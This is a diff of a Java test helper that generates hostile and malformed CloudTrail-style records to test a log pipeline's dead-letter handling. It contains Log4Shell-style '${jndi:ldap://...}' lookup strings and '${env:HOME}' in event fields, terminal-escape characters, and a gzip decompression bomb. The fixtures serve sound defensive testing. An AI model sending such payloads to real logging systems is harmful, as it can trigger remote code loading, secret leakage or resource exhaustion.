@@ -1,11 +1,13 @@
 package io.sharetrail.cluster;
 
+import io.sharetrail.cloudtrail.CodecLimits;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.util.Arrays;
+import java.util.Base64;
 import java.util.Map;
 import java.util.Random;
 import java.util.TreeMap;
@@ -21,26 +23,57 @@ final class Poison {
   /** Before all that matters. */
   private static final String TIME = "2025-02-26T00:00:00Z";
 
+  /** Latest time of those that mean nothing. */
+  private static final Instant CLOSING = Instant.parse("2025-12-02T00:00:00Z");
+
   private static final int LARGE = 5_000_000;
   private static final int BOMB = 200 << 20;
 
+  /** Parts of one record. */
+  private static final int MANY = 100_000;
+
   private final Random random;
-  private final Map<String, Integer> reasons = new TreeMap<>();
+  private final Map<String, Long> letters = new TreeMap<>();
+  private final Map<String, Long> skips = new TreeMap<>();
+  private long records;
+  private long events;
+  private long clamped;
   private Topics topics;
   private String topic;
   private int partitions;
+  private int closings;
 
   Poison(long seed) {
     random = new Random(seed);
   }
 
   /** How many dead letters of each reason it ought to make. */
-  Map<String, Integer> reasons() {
-    return reasons;
+  Map<String, Long> letters() {
+    return letters;
   }
 
-  int deadLetters() {
-    return reasons.values().stream().mapToInt(Integer::intValue).sum();
+  long allLetters() {
+    return letters.values().stream().mapToLong(Long::longValue).sum();
+  }
+
+  /** How many skips of each kind ought to be counted. */
+  Map<String, Long> skips() {
+    return skips;
+  }
+
+  /** How many records it is. */
+  long records() {
+    return records;
+  }
+
+  /** How many events they hold. */
+  long events() {
+    return events;
+  }
+
+  /** How many of these say that they are from the future. */
+  long clamped() {
+    return clamped;
   }
 
   /** Produces all of it, some of each kind into partitions by chance. */
@@ -51,11 +84,20 @@ final class Poison {
     for (int i = 0; i < EACH; i++) {
       garbage();
       lies();
+      notices();
     }
     large();
-    bomb();
+    bombs();
   }
 
+  /** And so many small ones. */
+  void litter(int count) {
+    for (int i = 0; i < count / 10; i++) {
+      garbage();
+    }
+  }
+
+  /** Ten. */
   private void garbage() {
     byte[] noise = new byte[300];
     random.nextBytes(noise);
@@ -63,26 +105,51 @@ final class Poison {
       noise[i] |= (byte) 0x80; // no compression begins so, nor JSON, and no line ends
     }
     letter("not-json", noise);
+    letter("not-json", text("${jndi:ldap://192.0.2.1/" + random.nextInt() + "}"));
     letter("truncated", text("{\"eventVersion\":\"1.11\",\"userIdentity\":{\"type\":\"IAM"));
     letter("malformed-json", text("{\"eventVersion\":\"1.11\",,}"));
-    letter("not-cloudtrail", text("{\"hello\":\"world\"}"));
-    letter("too-deep", text("[".repeat(5_000) + "]".repeat(5_000)));
-    nothing(null);
-    nothing(new byte[0]);
-    nothing(text(" \n"));
+    letter("not-cloudtrail", text("{\"hello\":\"" + random.nextInt() + "\"}"));
+    letter("wrong-type", text("{\"eventSource\":\"s\",\"eventName\":[" + random.nextInt() + "]}"));
+    letter("too-deep", text("[".repeat(500) + "]".repeat(500)));
+    skip("empty", null);
+    skip("empty", new byte[0]);
+    skip("empty", text(" \n"));
   }
 
   /** Events that say what cannot be, or what others may not read as it is. */
   private void lies() {
-    nothing(text(event(TIME, "DescribeRegions", "${jndi:ldap://192.0.2.1/a}", "192.0.2.9")));
-    nothing(text(event(TIME, "${jndi:ldap://192.0.2.1/a}", "curl", "${env:HOME}")));
-    nothing(text(event(TIME, "Describe\\u0000\\u001b[31mRegions\\u202e", "\\u0007", "\\u0000")));
+    event(event(TIME, "DescribeRegions", "${jndi:ldap://192.0.2.1/a}", "192.0.2.9"));
+    event(event(TIME, "${jndi:ldap://192.0.2.1/a}", "curl", "${env:HOME}"));
+    event(event(TIME, "Describe\\u0000\\u001b[31mRegions\\u202e", "\\u0007", "\\u0000"));
+  }
+
+  /** What is no API call. */
+  private void notices() {
+    skip("insight", text(event(TIME, "a", "b", "c").replace("\"Management\"", "\"Insight\"")));
+    skip(
+        "aggregated", text(event(TIME, "a", "b", "c").replace("\"Management\"", "\"Aggregated\"")));
+    skip("digest", text("{\"digestStartTime\":\"2025-02-26T00:00:00Z\"}"));
+    skip("s3-notification", text("{\"Event\":\"s3:TestEvent\"}"));
+    skip("control-message", text("{\"messageType\":\"CONTROL_MESSAGE\",\"logEvents\":[]}"));
+    skip("eventbridge-other", text("{\"detail-type\":\"EC2 State\",\"detail\":{}}"));
+    skip("sns-confirmation", text("{\"Type\":\"SubscriptionConfirmation\",\"Message\":\"m\"}"));
   }
 
   /** Events of the year 2099. They move no time: what is behind them would be late. */
   void fromTheFuture() {
     for (int i = 0; i < EACH; i++) {
-      nothing(text(event("2099-01-01T00:00:00Z", "DescribeRegions", "curl", "192.0.2.9")));
+      event(event("2099-01-01T00:00:00Z", "DescribeRegions", "curl", "192.0.2.9"));
+      clamped++;
+    }
+  }
+
+  /** Lets every partition's time go on, behind which all that was counted is told. */
+  void close() {
+    closings++;
+    for (int partition = 0; partition < partitions; partition++) {
+      Instant time = CLOSING.plusSeconds(60L * closings);
+      produce(partition, text(MixedTrail.closing(time)));
+      events++;
     }
   }
 
@@ -97,13 +164,23 @@ final class Poison {
   private void large() {
     letter("malformed-json", text("{\"x\":" + "y".repeat(LARGE) + "}"));
     String agent = "curl/" + "z".repeat(LARGE);
-    nothing(text(event(TIME, "DescribeRegions", agent, "192.0.2.9")));
+    event(event(TIME, "DescribeRegions", agent, "192.0.2.9"));
   }
 
-  private void bomb() {
-    letter("inflates-too-far", gzip(new byte[1 << 20], BOMB >> 20));
+  /** What is small and becomes large: bytes, or dead letters. */
+  private void bombs() {
+    byte[] bomb = gzip(new byte[1 << 20], BOMB >> 20);
+    letter("inflates-too-far", bomb);
+    String data = Base64.getEncoder().encodeToString(bomb);
+    letter("inflates-too-far", text("{\"awslogs\":{\"data\":\"" + data + "\"}}"));
     byte[] damaged = gzip(text(event(TIME, "DescribeRegions", "curl", "192.0.2.9")), 1);
     letter("damaged-compression", Arrays.copyOf(damaged, damaged.length / 2));
+
+    letters.merge("not-json", (long) CodecLimits.DEFAULT.deadLettersPerRecord(), Long::sum);
+    letter("rest-of-record", text("x\n".repeat(MANY)));
+    letters.merge("wrong-type", (long) CodecLimits.DEFAULT.deadLettersPerRecord(), Long::sum);
+    String bad = "{\"eventSource\":\"s\",\"eventName\":[]},";
+    letter("rest-of-record", text("{\"Records\":[" + bad.repeat(MANY) + "null]}"));
   }
 
   private static byte[] gzip(byte[] bytes, int times) {
@@ -119,12 +196,23 @@ final class Poison {
   }
 
   private void letter(String reason, byte[] value) {
-    reasons.merge(reason, 1, Integer::sum);
-    nothing(value);
+    letters.merge(reason, 1L, Long::sum);
+    produce(random.nextInt(partitions), value);
   }
 
-  private void nothing(byte[] value) {
-    topics.produce(topic, random.nextInt(partitions), key(), value);
+  private void skip(String kind, byte[] value) {
+    skips.merge(kind, 1L, Long::sum);
+    produce(random.nextInt(partitions), value);
+  }
+
+  private void event(String event) {
+    events++;
+    produce(random.nextInt(partitions), text(event));
+  }
+
+  private void produce(int partition, byte[] value) {
+    records++;
+    topics.produce(topic, partition, key(), value);
   }
 
   private String key() {
